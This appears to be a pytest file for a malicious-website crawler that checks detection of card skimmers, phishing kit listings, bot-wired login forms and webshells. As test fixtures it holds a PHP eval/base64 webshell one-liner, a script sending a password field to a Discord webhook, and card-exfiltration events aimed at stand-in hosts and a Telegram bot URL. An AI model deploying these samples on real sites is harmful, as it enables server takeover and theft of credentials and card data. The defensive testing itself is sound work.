"""Fast checks of the exfil events, kit listings, bot URLs and webshell signs (no browser).

The pages are the sandbox's own builders (the same bytes the crawl test serves), judged
by the real engine with its bundled YARA-X rules.
"""

from __future__ import annotations

from datetime import UTC, datetime
from types import SimpleNamespace

import pytest

from crawler.browser import exfil
from crawler.items import CheckItem
from crawler.signatures.behaviour import luhn
from crawler.signatures.engine import Engine
from tocsin.config import Config
from tocsin.sandbox import pages_exfil

T = datetime(2026, 1, 1, tzinfo=UTC)


def _judge(url: str, html: str, **browser: object):
    item = CheckItem(1, url, "triage", T)
    item.route = "browser"
    item.served_html = html
    item.browser = {"served_html": html, "dom": html, **browser}
    return Engine.for_config(Config()).evaluate(item)


def test_events_put_every_channel_in_one_shape() -> None:
    browser = {
        "requests": [
            {"url": "https://g.test/c?d=abc", "type": "image", "method": "GET", "phase": "clock"},
            {"url": "https://g.test/b", "type": "ping", "method": "POST", "post_data": "x"},
            {"url": "https://g.test/f", "type": "document", "method": "POST", "post_data": "d=1"},
            {"url": "https://g.test/style.css", "type": "stylesheet", "method": "GET"},
        ],
        "websockets": [{"url": "wss://w.test/s", "sent": ["hi", "yo"], "sent_phases": ["load"]}],
        "datachannels": [
            {"servers": ["turn:relay.test:3478?transport=tcp"], "data": "p", "label": "s"},
            {"servers": [], "data": "q"},
        ],
    }
    events = exfil.events(browser)
    assert [e["channel"] for e in events] == [
        "image", "beacon", "form", "websocket", "websocket", "webrtc", "webrtc",
    ]  # fmt: skip
    assert events[0]["data"] == "d=abc" and events[0]["phase"] == "clock"
    assert [e["phase"] for e in events[3:5]] == ["load", None]
    assert (events[5]["host"], events[6]["host"]) == ("relay.test", "unknown-peer")
    assert exfil.ice_host("turn:[2001:db8::1]:3478") == "2001:db8::1"


def test_luhn_tells_card_numbers_from_other_digits() -> None:
    assert luhn("4111111111111111") and luhn("378282246310005")
    assert not luhn("4111111111111112") and not luhn("1700000000123")


@pytest.mark.parametrize("channel", pages_exfil.SKIMMER_CHANNELS)
def test_a_leak_on_any_channel_is_a_skimmer_and_a_first_party_one_is_not(channel) -> None:
    card = '{"cc_number":"4111 1111 1111 1111","cc_cvv":"737"}'
    host = "turn.relay.test" if channel == "webrtc" else "gate.test"
    event = {"channel": channel, "url": f"https://{host}/x", "host": host, "data": card}
    browser = {
        "exfil": [{**event, "phase": "interaction"}],
        "interaction": {"filled": ["card:cc_number", "cvv:cc_cvv"]},
    }
    verdict = _judge("https://www.candle-shop.com/checkout/", "<p>shop</p>", **browser)
    assert (verdict.value, verdict.family) == ("malicious", "card-skimmer")
    assert "test card data" in verdict.evidence[0]
    own = {**event, "url": "wss://pay.candle-shop.com/s", "host": "pay.candle-shop.com"}
    browser["exfil"] = [{**own, "phase": "interaction"}]
    assert (
        _judge("https://www.candle-shop.com/checkout/", "<p>shop</p>", **browser).value == "clean"
    )


def _listing(site_id: str) -> str:
    style, rows = pages_exfil.LISTINGS[site_id]
    build = pages_exfil._apache_index if style == "apache" else pages_exfil._nginx_index
    return build("/files/", rows)


@pytest.mark.parametrize("site", ["kit-listing-apache", "kit-listing-nginx"])
def test_kit_listings_are_phishing(site) -> None:
    verdict = _judge("http://a.test/files/", _listing(site))
    assert (verdict.value, verdict.family) == ("malicious", "phishing")
    assert verdict.rules == ["tocsin.phishing.kit-listing"]


@pytest.mark.parametrize("site", ["docs-listing-apache", "docs-listing-nginx"])
def test_listings_of_documents_are_clean(site) -> None:
    assert _judge("http://a.test/files/", _listing(site)).value == "clean"


def test_a_bot_url_next_to_a_password_field_is_phishing_and_a_chat_link_is_not() -> None:
    form = {"forms": [{"fields": [{"type": "email"}, {"type": "password"}]}]}
    wired = (
        "<form><input type=password id=pw></form><script>var h='https://discord.com/api/"
        "webhooks/1187/tok';x.send(JSON.stringify({c: pw.value}))</script>"
    )
    verdict = _judge("http://a.test/login.html", wired, **form)
    assert verdict.family == "phishing" and "tocsin.phishing.bot-wired" in verdict.rules
    plain = "<form><input type=password></form><a href='https://t.me/ourclub'>Telegram</a>"
    assert _judge("http://a.test/login.html", plain, **form).value == "clean"


_ENV = SimpleNamespace(site=SimpleNamespace(host="www.example.test"))  # what the builders read


@pytest.mark.parametrize("build", [pages_exfil._wso, pages_exfil._b374k, pages_exfil._alfa])
def test_webshell_panels_are_their_own_family(build) -> None:
    verdict = _judge("http://a.test/x.php", build(_ENV))
    assert (verdict.value, verdict.family) == ("malicious", "webshell")
    assert "tocsin.webshell" in verdict.rules
    assert any(r.startswith("yara.webshell.") for r in verdict.rules)


def test_a_file_manager_login_and_a_blog_post_about_shells_are_clean() -> None:
    login = pages_exfil.FILEMANAGER_LOGIN
    form = {"forms": [{"fields": [{"type": "text"}, {"type": "password"}]}]}
    assert _judge("http://a.test/filemanager/login.php", login, **form).value == "clean"
    blog = (
        "<h1>How we removed a b374k webshell</h1><p>The attacker uploaded b374k and WSO 2.5 "
        "to wp-content/uploads. Check for files you did not upload; run chmod 644.</p>"
    )
    assert _judge("http://a.test/blog/", blog).value == "clean"


def test_webshell_php_source_is_caught_as_a_payload() -> None:
    engine = Engine.for_config(Config())
    source = b"<?php @eval(base64_decode($_POST['x'])); ?>"
    assert [h.family for h in engine.yara.scan(source, "payload")] == ["webshell"]
    assert engine.yara.scan(b"<?php echo htmlspecialchars($_POST['q']); ?>", "payload") == []


def test_page_chosen_names_in_evidence_are_defanged_and_one_line() -> None:
    rows = [("login.paypal.com.zip", "2024-01-01 00:00", "1M")]
    markup = pages_exfil._apache_index("/x\nSubject: hi/", rows)
    verdict = _judge("http://a.test/x/", markup)
    assert verdict.family == "phishing"
    line = verdict.evidence[0]
    assert "login[.]paypal[.]com.zip" in line and "paypal.com" not in line and "\n" not in line


def test_a_card_sent_to_a_telegram_bot_is_a_skimmer_not_a_login() -> None:
    url = "https://api.telegram.org/bot6012345678:AAH-x/sendMessage"
    event = {"channel": "fetch", "url": url, "host": "api.telegram.org", "phase": "interaction"}
    browser = {
        "exfil": [{**event, "data": '{"text":"cc 4111111111111111 737"}'}],
        "interaction": {"filled": ["card:cc_number", "cvv:cc_cvv"]},
    }
    verdict = _judge("https://www.candle-shop.com/checkout/", "<p>shop</p>", **browser)
    assert (verdict.value, verdict.family) == ("malicious", "card-skimmer")
    assert "tocsin.phishing.bot-exfil" not in verdict.rules
    browser["exfil"] = [{**event, "data": '{"text":"tess.tocsin / Tocsin-Test-Pw-4827"}'}]
    browser["interaction"] = {"filled": ["user:email", "password:password"]}
    verdict = _judge("https://www.candle-shop.com/login/", "<p>login</p>", **browser)
    assert verdict.family == "phishing" and verdict.rules[0] == "tocsin.phishing.bot-exfil"
